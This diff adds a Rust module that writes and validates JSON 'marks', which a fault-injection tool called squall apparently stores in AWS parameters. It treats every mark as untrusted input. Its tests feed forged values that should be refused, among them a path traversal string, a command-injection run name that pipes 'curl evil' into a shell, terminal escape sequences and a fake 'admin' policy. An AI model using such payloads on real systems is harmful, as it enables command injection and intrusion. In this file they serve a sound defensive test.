@@ -1,0 +1,507 @@
+//! The text of a mark, as it lies in an account: version 2, and version 1 of squall 0.1.0.
+//!
+//! Invariant: this is text from outside. Anybody who may write parameters in the account can write one, so nothing in it
+//! is believed that no mark of squall would say: it can make squall put back what a run of its catalogue could have
+//! changed on the marked resource, and nothing else (DESIGN rule 18).
+
+use serde::{Deserialize, Serialize};
+
+use super::{MARK_LIMIT, Mark, MarkedChange, MarkedSends, NotAMark};
+use crate::account::{AccountIdentity, Location, Region, Resource, ResourceKind, Setting, Value};
+use crate::faults::extension;
+use crate::plan::Cleanup;
+use crate::run::RunId;
+use crate::units::{Span, Time};
+
+/// The version that is written.
+pub const VERSION: u32 = 2;
+/// No run sends more messages to one queue than this.
+const MOST_MESSAGES: u32 = 10_000;
+/// Longest title and longest name of a person at a machine.
+const LONGEST_TEXT: usize = 200;
+
+/// The version of any mark, whatever else is in it.
+#[derive(Deserialize)]
+struct Versioned {
+    squall: u32,
+}
+
+/// Version 2: the marked resource is said once, and changes are on nothing else.
+#[derive(Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Written {
+    squall: u32,
+    run: RunId,
+    title: String,
+    by: String,
+    made_at: Time,
+    latest_end: Time,
+    account: AccountIdentity,
+    region: Region,
+    kind: ResourceKind,
+    name: String,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    changes: Vec<WrittenChange>,
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    sends: Vec<WrittenSends>,
+}
+
+#[derive(Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct WrittenChange {
+    setting: WrittenSetting,
+    before: WrittenValue,
+    after: WrittenValue,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    whole_before: Option<String>,
+}
+
+#[derive(Serialize, Deserialize)]
+#[serde(tag = "kind", rename_all = "snake_case", deny_unknown_fields)]
+enum WrittenSetting {
+    ReservedConcurrency,
+    FaultFlag { key: String },
+    FaultDocument,
+    RolePolicy { policy: String },
+    Variables { prefix: String },
+}
+
+#[derive(Serialize, Deserialize)]
+#[serde(tag = "kind", rename_all = "snake_case", deny_unknown_fields)]
+enum WrittenValue {
+    Unset,
+    Number { number: u64 },
+    Text { text: String },
+}
+
+#[derive(Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct WrittenSends {
+    first: u32,
+    count: u32,
+    /// A queue in the same account and region; none: the messages may stay.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    sweep: Option<WrittenSweep>,
+}
+
+#[derive(Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct WrittenSweep {
+    dead_letter: String,
+    arrives_within_seconds: f64,
+    foreign_limit: u32,
+}
+
+/// Version 1, of squall 0.1.0: it named the account of each change by a nickname. The account that the mark lies in is
+/// the one that is meant.
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct First {
+    #[expect(dead_code, reason = "it was read before")]
+    squall: u32,
+    run: RunId,
+    title: String,
+    by: String,
+    made_at: Time,
+    latest_end: Time,
+    #[serde(default)]
+    changes: Vec<FirstChange>,
+    #[serde(default)]
+    sends: Vec<FirstSends>,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct FirstChange {
+    setting: Setting,
+    before: Value,
+    after: Value,
+    #[serde(default)]
+    whole_before: Option<String>,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct FirstSends {
+    first: u32,
+    count: u32,
+    cleanup: Cleanup,
+}
+
+/// A mark on `resource` as the account holds it.
+pub fn write(mark: &Mark, resource: &Resource) -> String {
+    let changes = mark.changes.iter().filter_map(|change| {
+        Some(WrittenChange {
+            setting: written_setting(&change.setting)?,
+            before: written_value(&change.before),
+            after: written_value(&change.after),
+            whole_before: change.whole_before.clone(),
+        })
+    });
+    let sweep = |cleanup: &Cleanup| match cleanup {
+        Cleanup::Sweep { dead_letter, arrives_within, foreign_limit } => Some(WrittenSweep {
+            dead_letter: dead_letter.name.clone(),
+            arrives_within_seconds: arrives_within.secs_f64(),
+            foreign_limit: *foreign_limit,
+        }),
+        Cleanup::LeaveInQueue => None,
+    };
+    let written = Written {
+        squall: VERSION,
+        run: mark.run.clone(),
+        title: mark.title.clone(),
+        by: mark.by.clone(),
+        made_at: mark.made_at,
+        latest_end: mark.latest_end,
+        account: resource.location.account.clone(),
+        region: resource.location.region.clone(),
+        kind: resource.kind,
+        name: resource.name.clone(),
+        changes: changes.collect(),
+        sends: mark
+            .sends
+            .iter()
+            .map(|sends| WrittenSends { first: sends.first, count: sends.count, sweep: sweep(&sends.cleanup) })
+            .collect(),
+    };
+    serde_json::to_string(&written).unwrap_or_default()
+}
+
+/// Reads the text that lies on `resource`.
+///
+/// # Errors
+/// It is of a newer version, of another resource or account, or says what no mark of squall would say.
+pub fn read(resource: &Resource, text: &str) -> Result<Mark, NotAMark> {
+    let wrong = |why: String| NotAMark { resource: resource.clone(), why };
+    if text.len() > 2 * MARK_LIMIT {
+        return Err(wrong(format!("it has {} bytes, and a mark has at most {MARK_LIMIT}", text.len())));
+    }
+    let version: Versioned = serde_json::from_str(text).or_else(|_| version_of(text)).map_err(&wrong)?;
+    let mark = match version.squall {
+        1 => first(resource, text),
+        VERSION => second(resource, text),
+        newer => {
+            Err(format!("it has format {newer}, and this squall reads 1 to {VERSION}; use the squall that wrote it"))
+        }
+    };
+    let mark = mark.map_err(&wrong)?;
+    believable(&mark).map_err(wrong)?;
+    Ok(Mark { title: plain(&mark.title), by: plain(&mark.by), ..mark })
+}
+
+/// The version, where there are other keys beside it.
+fn version_of(text: &str) -> Result<Versioned, String> {
+    let json: serde_json::Value = serde_json::from_str(text).map_err(|error| error.to_string())?;
+    let version = json.get("squall").and_then(serde_json::Value::as_u64);
+    let version = version.and_then(|version| u32::try_from(version).ok());
+    version.map(|squall| Versioned { squall }).ok_or_else(|| "it does not say its version".into())
+}
+
+fn second(resource: &Resource, text: &str) -> Result<Mark, String> {
+    let written: Written = serde_json::from_str(text).map_err(|error| error.to_string())?;
+    if (written.kind, &written.name) != (resource.kind, &resource.name) {
+        return Err(format!("it is about {} {}", written.kind.word(), plain(&written.name)));
+    }
+    let location = Location { account: written.account, region: written.region };
+    if location != resource.location {
+        return Err(format!(
+            "it is about account {} ({location}), and lies in {}",
+            location.account, resource.location
+        ));
+    }
+    let sends = written.sends.into_iter().map(|sends| {
+        let cleanup = match sends.sweep {
+            None => Cleanup::LeaveInQueue,
+            Some(sweep) => Cleanup::Sweep {
+                dead_letter: resource.beside(ResourceKind::Queue, sweep.dead_letter),
+                arrives_within: Span::from_secs_f64(sweep.arrives_within_seconds),
+                foreign_limit: sweep.foreign_limit,
+            },
+        };
+        MarkedSends { first: sends.first, count: sends.count, cleanup }
+    });
+    let change = |change: WrittenChange| MarkedChange {
+        setting: setting_on(resource, change.setting),
+        before: value(change.before),
+        after: value(change.after),
+        whole_before: change.whole_before,
+    };
+    Ok(Mark {
+        run: written.run,
+        title: written.title,
+        by: written.by,
+        made_at: written.made_at,
+        latest_end: written.latest_end,
+        sends: sends.collect(),
+        changes: written.changes.into_iter().map(change).collect(),
+    })
+}
+
+fn first(resource: &Resource, text: &str) -> Result<Mark, String> {
+    let first: First = serde_json::from_str(text).map_err(|error| error.to_string())?;
+    let mut changes = Vec::new();
+    for change in first.changes {
+        let on = change.setting.resource();
+        if (on.kind, &on.name) != (resource.kind, &resource.name) {
+            return Err(format!("it would change {}", plain(&on.to_string())));
+        }
+        let setting = written_setting(&change.setting).ok_or("it would change a mark")?;
+        changes.push(MarkedChange {
+            setting: setting_on(resource, setting),
+            before: change.before,
+            after: change.after,
+            whole_before: change.whole_before,
+        });
+    }
+    let sends = first.sends.into_iter().map(|sends| {
+        let cleanup = match sends.cleanup {
+            Cleanup::Sweep { dead_letter, arrives_within, foreign_limit } => Cleanup::Sweep {
+                dead_letter: resource.beside(ResourceKind::Queue, dead_letter.name),
+                arrives_within,
+                foreign_limit,
+            },
+            Cleanup::LeaveInQueue => Cleanup::LeaveInQueue,
+        };
+        MarkedSends { first: sends.first, count: sends.count, cleanup }
+    });
+    Ok(Mark {
+        run: first.run,
+        title: first.title,
+        by: first.by,
+        made_at: first.made_at,
+        latest_end: first.latest_end,
+        sends: sends.collect(),
+        changes,
+    })
+}
+
+/// Whether a run of squall could have left this.
+fn believable(mark: &Mark) -> Result<(), String> {
+    mark.run.0.parse::<RunId>().map_err(|_| "its run has no name that squall gives".to_owned())?;
+    if [&mark.title, &mark.by].iter().any(|text| text.chars().count() > LONGEST_TEXT) {
+        return Err(format!("its title or its author has more than {LONGEST_TEXT} characters"));
+    }
+    if mark.latest_end < mark.made_at {
+        return Err("it ends before it was made".into());
+    }
+    for sends in &mark.sends {
+        if sends.first == 0 || sends.count > MOST_MESSAGES || sends.first.checked_add(sends.count).is_none() {
+            return Err(format!("it counts messages {} to {} more", sends.first, sends.count));
+        }
+    }
+    mark.changes.iter().try_for_each(|change| believable_change(&mark.run, change))
+}
+
+fn believable_change(run: &RunId, change: &MarkedChange) -> Result<(), String> {
+    let setting = change.setting.describe();
+    match &change.setting {
+        Setting::Mark { .. } => return Err("it would change a mark".into()),
+        Setting::ReservedConcurrency { .. } => {
+            if matches!(change.before, Value::Text(_)) || matches!(change.after, Value::Text(_)) {
+                return Err(format!("the {setting} is no text"));
+            }
+        }
+        Setting::RolePolicy { policy, .. } => {
+            // squall adds policies of its own, named after the run, and never changes one that was there.
+            let ours = format!("squall-{run}");
+            let named = policy.strip_prefix(&ours).is_some_and(|rest| rest.is_empty() || rest.starts_with('-'));
+            if !named || change.before != Value::Unset {
+                return Err(format!("{}: it is no policy of {run}", plain(&setting)));
+            }
+        }
+        Setting::Variables { prefix, .. } => {
+            if prefix != extension::PREFIX || ![&change.before, &change.after].iter().all(|value| is_ours(value)) {
+                return Err(format!("{}: these are not variables of the fault wrapper", plain(&setting)));
+            }
+        }
+        Setting::FaultFlag { .. } | Setting::FaultDocument { .. } => {}
+    }
+    Ok(())
+}
+
+/// Whether a value of variables holds the wrapper's and no others.
+fn is_ours(value: &Value) -> bool {
+    match value {
+        Value::Unset => true,
+        Value::Number(_) => false,
+        Value::Text(text) => serde_json::from_str::<serde_json::Map<String, serde_json::Value>>(text)
+            .is_ok_and(|map| map.iter().all(|(key, value)| key.starts_with(extension::PREFIX) && value.is_string())),
+    }
+}
+
+/// Text from outside without control characters and without what hides or turns text around.
+fn plain(text: &str) -> String {
+    let hides =
+        |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}');
+    text.chars().map(|c| if c.is_control() || hides(c) { '?' } else { c }).collect()
+}
+
+fn written_setting(setting: &Setting) -> Option<WrittenSetting> {
+    Some(match setting {
+        Setting::Mark { .. } => return None,
+        Setting::ReservedConcurrency { .. } => WrittenSetting::ReservedConcurrency,
+        Setting::FaultFlag { key, .. } => WrittenSetting::FaultFlag { key: key.clone() },
+        Setting::FaultDocument { .. } => WrittenSetting::FaultDocument,
+        Setting::RolePolicy { policy, .. } => WrittenSetting::RolePolicy { policy: policy.clone() },
+        Setting::Variables { prefix, .. } => WrittenSetting::Variables { prefix: prefix.clone() },
+    })
+}
+
+fn setting_on(resource: &Resource, setting: WrittenSetting) -> Setting {
+    let on = resource.clone();
+    match setting {
+        WrittenSetting::ReservedConcurrency => Setting::ReservedConcurrency { function: on },
+        WrittenSetting::FaultFlag { key } => Setting::FaultFlag { parameter: on, key },
+        WrittenSetting::FaultDocument => Setting::FaultDocument { parameter: on },
+        WrittenSetting::RolePolicy { policy } => Setting::RolePolicy { role: on, policy },
+        WrittenSetting::Variables { prefix } => Setting::Variables { function: on, prefix },
+    }
+}
+
+fn written_value(value: &Value) -> WrittenValue {
+    match value {
+        Value::Unset => WrittenValue::Unset,
+        Value::Number(number) => WrittenValue::Number { number: *number },
+        Value::Text(text) => WrittenValue::Text { text: text.clone() },
+    }
+}
+
+fn value(value: WrittenValue) -> Value {
+    match value {
+        WrittenValue::Unset => Value::Unset,
+        WrittenValue::Number { number } => Value::Number(number),
+        WrittenValue::Text { text } => Value::Text(text),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::{Value as Json, json};
+
+    use super::*;
+
+    fn at(region: &str) -> Location {
+        Location::of_aws("111122223333".parse().unwrap(), region.parse().unwrap(), None)
+    }
+
+    fn function() -> Resource {
+        Resource::new(&at("eu-west-1"), ResourceKind::Function, "pay")
+    }
+
+    fn mark(resource: &Resource, setting: Setting, before: Value, after: Value) -> Mark {
+        let _ = resource;
+        Mark {
+            run: RunId("run-1".into()),
+            title: "no concurrency left".into(),
+            by: "ana@laptop".into(),
+            made_at: "2026-03-02T09:00:00Z".parse().unwrap(),
+            latest_end: "2026-03-02T10:00:00Z".parse().unwrap(),
+            changes: vec![MarkedChange { setting, before, after, whole_before: None }],
+            sends: Vec::new(),
+        }
+    }
+
+    fn throttled() -> Mark {
+        let setting = Setting::ReservedConcurrency { function: function() };
+        mark(&function(), setting, Value::Unset, Value::Number(0))
+    }
+
+    fn role() -> Resource {
+        Resource::new(&at("eu-west-1"), ResourceKind::Role, "worker")
+    }
+
+    fn policy(name: &str, before: Value) -> Mark {
+        let setting = Setting::RolePolicy { role: role(), policy: name.into() };
+        mark(&role(), setting, before, Value::Text("{}".into()))
+    }
+
+    fn variables(prefix: &str, before: &str) -> Mark {
+        let setting = Setting::Variables { function: function(), prefix: prefix.into() };
+        mark(&function(), setting, Value::Text(before.into()), Value::Unset)
+    }
+
+    #[test]
+    fn marks_are_read_back() {
+        let ours = format!("{}X", extension::PREFIX);
+        for (resource, mark) in [
+            (function(), throttled()),
+            (role(), policy("squall-run-1-1", Value::Unset)),
+            (function(), variables(extension::PREFIX, &json!({ ours: "1" }).to_string())),
+        ] {
+            assert_eq!(read(&resource, &write(&mark, &resource)), Ok(mark));
+        }
+    }
+
+    #[test]
+    fn a_mark_of_another_account_region_or_resource_is_refused() {
+        let text = write(&throttled(), &function());
+        let other = Location::of_aws("444455556666".parse().unwrap(), "eu-west-1".parse().unwrap(), None);
+        let emulator = Some("http://localhost:4566");
+        let emulated = Location::of_aws("111122223333".parse().unwrap(), "eu-west-1".parse().unwrap(), emulator);
+        for location in [other, at("eu-central-1"), emulated] {
+            let resource = Resource::new(&location, ResourceKind::Function, "pay");
+            let error = read(&resource, &text).unwrap_err();
+            assert!(error.to_string().contains("111122223333"), "{error}");
+        }
+        let namesake = Resource::new(&at("eu-west-1"), ResourceKind::Function, "other");
+        assert!(read(&namesake, &text).unwrap_err().to_string().contains("function pay"));
+    }
+
+    /// What anybody may write into a parameter is no reason to do more than to put back what a run could have changed.
+    #[test]
+    fn a_forged_mark_is_refused() {
+        let forged = |change: &dyn Fn(&mut Json), mark: &Mark, resource: &Resource| {
+            let mut json: Json = serde_json::from_str(&write(mark, resource)).unwrap();
+            change(&mut json);
+            read(resource, &json.to_string()).map_err(|error| error.to_string())
+        };
+        let pay = function();
+        for run in ["../../../pwned", "x;curl evil|sh", "\u{1b}[2J", ""] {
+            assert!(forged(&|json| json["run"] = json!(run), &throttled(), &pay).is_err(), "{run}");
+        }
+        assert!(forged(&|json| json["squall"] = json!(3), &throttled(), &pay).unwrap_err().contains("format 3"));
+        assert!(forged(&|json| json["more"] = json!(1), &throttled(), &pay).is_err());
+        assert!(forged(&|json| json["title"] = json!("x".repeat(500)), &throttled(), &pay).is_err());
+        assert!(forged(&|json| json["latest_end"] = json!("2020-01-01T00:00:00Z"), &throttled(), &pay).is_err());
+        let text = |json: &mut Json| json["changes"][0]["before"] = json!({ "kind": "text", "text": "x" });
+        assert!(forged(&text, &throttled(), &pay).is_err());
+        let sends = |json: &mut Json| json["sends"] = json!([{ "first": 4_294_967_295_u32, "count": 9 }]);
+        assert!(forged(&sends, &throttled(), &pay).is_err());
+        let printed = forged(&|json| json["by"] = json!("a\u{1b}[2J\u{202e}b"), &throttled(), &pay).unwrap();
+        assert_eq!(printed.by, "a?[2J?b");
+        // An administrator for everybody, another run's policy, a policy that was there before.
+        for (name, before) in
+            [("admin", Value::Unset), ("squall-run-2-1", Value::Unset), ("squall-run-1-1", Value::Text("{}".into()))]
+        {
+            let mark = policy(name, before);
+            assert!(read(&role(), &write(&mark, &role())).is_err(), "{name}");
+        }
+        for (prefix, before) in
+            [("AWS_", "{}"), ("", "{}"), (extension::PREFIX, r#"{"PATH":"/tmp"}"#), (extension::PREFIX, "[]")]
+        {
+            let mark = variables(prefix, before);
+            assert!(read(&function(), &write(&mark, &function())).is_err(), "{prefix} {before}");
+        }
+    }
+
+    /// As squall 0.1.0 wrote it: the nickname is nobody's business, the account that it lies in counts.
+    #[test]
+    fn a_mark_of_the_first_version_is_about_the_account_that_it_lies_in() {
+        let text = |name: &str| {
+            json!({
+                "squall": 1, "run": "run-1", "title": "t", "by": "ana@laptop", "made_at": "2026-03-02T09:00:00.000Z",
+                "latest_end": "2026-03-02T10:00:00.000Z",
+                "changes": [{
+                    "setting": { "reserved_concurrency": { "function": { "account": "telemetry", "kind": "function", "name": name } } },
+                    "before": { "number": 5 }, "after": { "number": 0 },
+                }],
+            })
+            .to_string()
+        };
+        let mark = read(&function(), &text("pay")).unwrap();
+        assert_eq!(mark.changes[0].setting, Setting::ReservedConcurrency { function: function() });
+        assert_eq!(mark.changes[0].before, Value::Number(5));
+        let error = read(&function(), &text("other")).unwrap_err();
+        assert!(error.to_string().contains("would change function other"), "{error}");
+    }
+}
